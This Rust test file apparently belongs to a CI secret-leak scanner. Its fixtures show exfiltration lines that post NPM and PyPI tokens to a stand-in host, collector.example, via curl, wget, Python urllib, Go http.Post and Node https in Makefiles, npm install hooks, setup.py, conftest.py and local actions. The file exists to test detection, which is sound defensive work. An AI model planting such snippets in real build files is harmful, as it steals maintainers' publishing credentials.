//! Files of the repository that a tool runs without the workflow naming them, and what only several versions tell.

#![allow(clippy::unwrap_used, clippy::panic, reason = "a test fails by panicking")]

mod repository;

use portcullis_scan::report::{Finding, Verdict};
use portcullis_scan::{Options, Report, scan};
use repository::Repository;

const BOTH: &[&str] = &["NPM_TOKEN", "PYPI_API_TOKEN"];

fn scanned(run: &str, files: &[(&str, &str)]) -> Report {
    let repository = Repository::new();
    repository.write(
        ".github/workflows/ci.yml",
        &format!("on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env: {{A: '${{{{ secrets.PYPI_API_TOKEN }}}}', B: '${{{{ secrets.NPM_TOKEN }}}}'}}\n    steps:\n      - uses: actions/checkout@v4\n      - run: {run}\n"),
    );
    for (path, text) in files {
        repository.write(path, text);
    }
    repository.commit("CI");
    scan(&Options { paths: vec![repository.path().to_owned()], ..Options::default() })
}

fn theft(report: &Report) -> Option<&Finding> {
    report.document.findings.iter().find(|finding| finding.verdict == Verdict::Malicious)
}

#[track_caller]
fn stolen(run: &str, files: &[(&str, &str)], secrets: &[&str]) {
    let report = scanned(run, files);
    let finding = theft(&report).unwrap_or_else(|| panic!("{run}: {:#?}", report.document.findings));
    let names: Vec<&str> = finding.secrets.iter().map(|secret| secret.name.unescaped()).collect();
    assert_eq!(names, secrets, "{run}");
    let hosts: Vec<_> = finding.destinations.iter().filter_map(|to| to.host.as_ref()).collect();
    assert_eq!(hosts.iter().map(|host| host.unescaped()).collect::<Vec<_>>(), ["collector.example"], "{run}");
}

#[track_caller]
fn nobody_accused(run: &str, files: &[(&str, &str)]) {
    let report = scanned(run, files);
    let worst = report.document.findings.iter().map(|finding| finding.verdict).max();
    assert!(worst < Some(Verdict::Suspicious), "{run}: {:#?}", report.document.findings);
}

const SENDS: &str = "curl -d \"$A$B\" https://collector.example/";

#[test]
fn recipes_of_a_makefile() {
    let theft = format!("all: build\nbuild:\n\t@{}\n", SENDS.replace('$', "$$"));
    stolen("make", &[("Makefile", &theft)], BOTH);
    stolen("make build", &[("Makefile", &theft)], BOTH);
    stolen("make -C sub all", &[("sub/Makefile", &theft)], BOTH);
    stolen("cd sub && make", &[("sub/Makefile", &theft)], BOTH);
    let by_variable = "URL = https://collector.example/\nx:\n\tcurl -d $(A)$(B) $(URL)\n";
    stolen("make x", &[("Makefile", by_variable)], BOTH);
    // Near miss: another target.
    let apart = format!("all:\n\techo done\nbuild:\n\t{}\n", SENDS.replace('$', "$$"));
    nobody_accused("make", &[("Makefile", &apart)]);
}

#[test]
fn scripts_of_a_package() {
    let package = |name: &str, code: &str| {
        format!("{{\"scripts\": {{\"{name}\": {}}}}}", serde_json::to_string(code).unwrap())
    };
    for (run, name) in [
        ("npm run build", "build"),
        ("npm test", "pretest"),
        ("npm ci", "postinstall"),
        ("yarn lint", "lint"),
    ] {
        stolen(run, &[("package.json", &package(name, SENDS))], BOTH);
    }
    stolen("npm --prefix web run build", &[("web/package.json", &package("build", SENDS))], BOTH);
    nobody_accused("npm run build", &[("package.json", &package("other", SENDS))]);
}

#[test]
fn a_package_script_that_starts_make() {
    let make = format!("all:\n\t@{}\n", SENDS.replace('$', "$$"));
    let package = "{\"scripts\": {\"build\": \"make -s all\"}}";
    stolen("npm run build", &[("package.json", package), ("Makefile", &make)], BOTH);
}

#[test]
fn python_that_installers_and_tests_load() {
    let code = "import os, urllib.request\nurllib.request.urlopen('https://collector.example/?' + os.environ['A'] + os.environ['B'])\n";
    stolen("pip install -e .", &[("setup.py", code)], BOTH);
    stolen("python -m pytest", &[("conftest.py", code)], BOTH);
    stolen("python -m build", &[("setup.py", code)], BOTH);
    nobody_accused("pip install requests", &[("setup.py", code)]);
}

#[test]
fn a_program_that_is_compiled_on_the_spot() {
    let code = "package main\nimport (\"net/http\"; \"os\"; \"strings\")\nfunc main() {\n\thttp.Post(\"https://collector.example/\", \"text/plain\", strings.NewReader(os.Getenv(\"A\")+os.Getenv(\"B\")))\n}\n";
    stolen("go run ./tools/gen", &[("tools/gen/main.go", code)], BOTH);
    stolen("go run tools/gen.go", &[("tools/gen.go", code)], BOTH);
    // Near miss: nothing runs it.
    nobody_accused("go vet ./...", &[("tools/gen/main.go", code)]);
}

/// A masked copy in the same file, and a later version that looks better, undo nothing.
#[test]
fn the_worst_of_what_was_done_counts() {
    let log = |run: &str| {
        format!(
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          {run}\n        env: {{K: '${{{{ secrets.KEY }}}}'}}\n"
        )
    };
    let path = ".github/workflows/log.yml";
    let repository = Repository::new();
    repository.write(path, &log("echo \"$K\" | rev\n          echo \"$K\""));
    repository.commit("Log");
    let report = scan(&Options { paths: vec![repository.path().to_owned()], ..Options::default() });
    assert!(theft(&report).is_some(), "{:#?}", report.document.findings);
    repository.write(path, &log("echo \"$K\""));
    repository.commit("Mend");
    let report = scan(&Options { paths: vec![repository.path().to_owned()], ..Options::default() });
    assert_eq!(report.document.findings.len(), 1, "{:#?}", report.document.findings);
    assert!(theft(&report).is_some(), "{:#?}", report.document.findings);
}

fn called_action(files: &[(&str, &str)]) -> Report {
    let repository = Repository::new();
    repository.write(
        ".github/workflows/ci.yml",
        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: ./tools/notify\n        with: {key: '${{ secrets.NPM_TOKEN }}'}\n        env: {OTHER: '${{ secrets.PYPI_API_TOKEN }}'}\n",
    );
    for (path, text) in files {
        repository.write(path, text);
    }
    repository.commit("CI");
    scan(&Options { paths: vec![repository.path().to_owned()], ..Options::default() })
}

/// An action of the repository's own may be a program or an image.
#[test]
fn actions_that_are_no_list_of_steps() {
    let sends = "const https = require('https');\nconst r = https.request('https://collector.example/n', { method: 'POST' });\nr.end(process.env.INPUT_KEY + process.env.OTHER);\n";
    let program = [
        ("tools/notify/action.yml", "name: n\ninputs: {key: {}}\nruns: {using: node20, main: index.js}\n"),
        ("tools/notify/index.js", sends),
    ];
    let image = [
        ("tools/notify/action.yml", "name: n\ninputs: {key: {}}\nruns: {using: docker, image: Dockerfile}\n"),
        ("tools/notify/Dockerfile", "FROM alpine:3\nCOPY run.sh /run.sh\nENTRYPOINT [\"/run.sh\"]\n"),
        (
            "tools/notify/run.sh",
            "#!/bin/sh\nwget -q -O- --post-data \"$INPUT_KEY$OTHER\" https://collector.example/\n",
        ),
    ];
    for files in [&program[..], &image[..]] {
        let report = called_action(files);
        let finding = theft(&report).unwrap_or_else(|| panic!("{:#?}", report.document.findings));
        let names: Vec<&str> = finding.secrets.iter().map(|secret| secret.name.unescaped()).collect();
        assert_eq!(names, BOTH);
    }
    // Near miss: another program than the one that is started.
    let apart =
        [program[0], ("tools/notify/other.js", sends), ("tools/notify/index.js", "console.log('done');\n")];
    assert!(theft(&called_action(&apart)).is_none());
}
